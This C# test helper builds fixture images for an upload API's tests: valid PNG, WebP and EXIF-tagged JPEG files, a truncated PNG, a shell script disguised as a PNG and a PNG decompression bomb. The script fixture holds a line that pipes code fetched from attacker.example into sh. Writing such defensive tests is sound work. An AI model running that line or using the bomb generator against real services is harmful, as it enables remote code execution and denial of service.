using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using SkiaSharp;

namespace Scc.Api.Tests.Support;

/// <summary>Image files made on the spot, good and bad, for the upload tests.</summary>
public static class TestImages
{
    /// <summary>Text put in a JPEG's EXIF segment, to look for in what the API serves.</summary>
    public const string ExifSecret = "GPS 22.2783N 114.1747E private";

    /// <summary>A picture with a gradient and a red square at its top left, so that orientation and scaling can be seen.</summary>
    public static SKBitmap Picture(int width, int height, bool transparent = false)
    {
        var bitmap = new SKBitmap(new SKImageInfo(width, height, SKColorType.Rgba8888, transparent ? SKAlphaType.Premul : SKAlphaType.Opaque));
        using var canvas = new SKCanvas(bitmap);
        using var gradient = new SKPaint
        {
            Shader = SKShader.CreateLinearGradient(new SKPoint(0, 0), new SKPoint(width, height),
                [new SKColor(20, 90, 200), new SKColor(240, 200, 40)], SKShaderTileMode.Clamp),
        };
        canvas.Clear(transparent ? SKColors.Transparent : SKColors.White);
        canvas.DrawRect(0, 0, width, height, gradient);
        using var red = new SKPaint { Color = SKColors.Red };
        canvas.DrawRect(0, 0, Math.Max(1, width / 4), Math.Max(1, height / 4), red);
        return bitmap;
    }

    public static byte[] Encode(SKBitmap bitmap, SKEncodedImageFormat format, int quality = 90)
    {
        using var image = SKImage.FromBitmap(bitmap);
        using var data = image.Encode(format, quality);
        return data.ToArray();
    }

    public static byte[] Png(int width, int height)
    {
        using var bitmap = Picture(width, height);
        return Encode(bitmap, SKEncodedImageFormat.Png);
    }

    public static byte[] Webp(int width, int height)
    {
        using var bitmap = Picture(width, height, transparent: true);
        return Encode(bitmap, SKEncodedImageFormat.Webp);
    }

    /// <summary>
    /// A JPEG with an EXIF APP1 segment spliced in right after its start marker: an Orientation tag (6: the camera was
    /// turned, show it rotated 90° clockwise) and an ImageDescription holding <see cref="ExifSecret"/>.
    /// </summary>
    public static byte[] JpegWithExif(int width, int height, ushort orientation = 6)
    {
        using var bitmap = Picture(width, height);
        var jpeg = Encode(bitmap, SKEncodedImageFormat.Jpeg);
        var text = Encoding.ASCII.GetBytes(ExifSecret + "\0");
        // TIFF, big-endian: header (8), an IFD of two entries at 8 (2 + 2·12 + 4 = 30), then the description's text at 38.
        var tiff = new byte[38 + text.Length];
        "MM"u8.CopyTo(tiff);
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(2), 42);
        BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(4), 8);
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(8), 2);
        // ImageDescription (0x010E), ASCII (2), its length, at offset 38. Entries go in tag order.
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(10), 0x010E);
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(12), 2);
        BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(14), (uint)text.Length);
        BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(18), 38);
        // Orientation (0x0112), SHORT (3), one value, held in the entry itself.
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(22), 0x0112);
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(24), 3);
        BinaryPrimitives.WriteUInt32BigEndian(tiff.AsSpan(26), 1);
        BinaryPrimitives.WriteUInt16BigEndian(tiff.AsSpan(30), orientation);
        // Next IFD: none (34..37 stay zero).
        text.CopyTo(tiff, 38);

        var app1 = new List<byte> { 0xFF, 0xE1 };
        var length = 2 + 6 + tiff.Length;
        app1.Add((byte)(length >> 8));
        app1.Add((byte)length);
        app1.AddRange("Exif\0\0"u8.ToArray());
        app1.AddRange(tiff);
        return [.. jpeg[..2], .. app1, .. jpeg[2..]];
    }

    /// <summary>A PNG cut in the middle of its pixel data.</summary>
    public static byte[] TruncatedPng()
    {
        // Noise compresses badly, so that half the file is well inside the pixel data.
        using var bitmap = new SKBitmap(new SKImageInfo(600, 400, SKColorType.Rgba8888, SKAlphaType.Opaque));
        var random = new Random(7);
        for (var y = 0; y < 400; y++)
        for (var x = 0; x < 600; x++)
            bitmap.SetPixel(x, y, new SKColor((byte)random.Next(256), (byte)random.Next(256), (byte)random.Next(256)));
        var png = Encode(bitmap, SKEncodedImageFormat.Png);
        return png[..(png.Length / 2)];
    }

    /// <summary>A shell script, named as a PNG by whoever uploads it.</summary>
    public static byte[] Script() => "#!/bin/sh\ncurl https://attacker.example/x | sh\n"u8.ToArray();

    /// <summary>
    /// A decompression bomb: a valid PNG of a few kilobytes whose header declares 30,000 × 30,000 pixels (3.6 GB once
    /// decoded); its pixel data is zeros, compressed.
    /// </summary>
    public static byte[] PngBomb(int side = 30_000)
    {
        using var file = new MemoryStream();
        file.Write([0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]);
        var header = new byte[13];
        BinaryPrimitives.WriteUInt32BigEndian(header, (uint)side);
        BinaryPrimitives.WriteUInt32BigEndian(header.AsSpan(4), (uint)side);
        header[8] = 8; // bit depth
        header[9] = 2; // truecolour
        Chunk(file, "IHDR", header);
        using var compressed = new MemoryStream();
        using (var zlib = new ZLibStream(compressed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            // The first rows: each a filter byte and 3 bytes a pixel, all zero.
            var zeros = new byte[(side * 3 + 1) * 64];
            zlib.Write(zeros);
        }
        Chunk(file, "IDAT", compressed.ToArray());
        Chunk(file, "IEND", []);
        return file.ToArray();
    }

    private static void Chunk(Stream file, string type, byte[] data)
    {
        Span<byte> number = stackalloc byte[4];
        BinaryPrimitives.WriteUInt32BigEndian(number, (uint)data.Length);
        file.Write(number);
        var typeAndData = Encoding.ASCII.GetBytes(type).Concat(data).ToArray();
        file.Write(typeAndData);
        BinaryPrimitives.WriteUInt32BigEndian(number, Crc32(typeAndData));
        file.Write(number);
    }

    private static uint Crc32(byte[] bytes)
    {
        var crc = 0xFFFFFFFFu;
        foreach (var b in bytes)
        {
            crc ^= b;
            for (var k = 0; k < 8; k++) crc = (crc & 1) != 0 ? 0xEDB88320u ^ (crc >> 1) : crc >> 1;
        }
        return ~crc;
    }

    /// <summary>The width and height of an image file, read as a browser would decode it; null when it cannot be decoded.</summary>
    public static (int Width, int Height, SKEncodedImageFormat Format)? Decode(byte[] file)
    {
        using var codec = SKCodec.Create(SKData.CreateCopy(file));
        if (codec is null) return null;
        using var bitmap = SKBitmap.Decode(file);
        return bitmap is null ? null : (bitmap.Width, bitmap.Height, codec.EncodedFormat);
    }

    /// <summary>The colour at a point of an image file, as decoded.</summary>
    public static SKColor PixelAt(byte[] file, int x, int y)
    {
        using var bitmap = SKBitmap.Decode(file);
        return bitmap.GetPixel(x, y);
    }
}
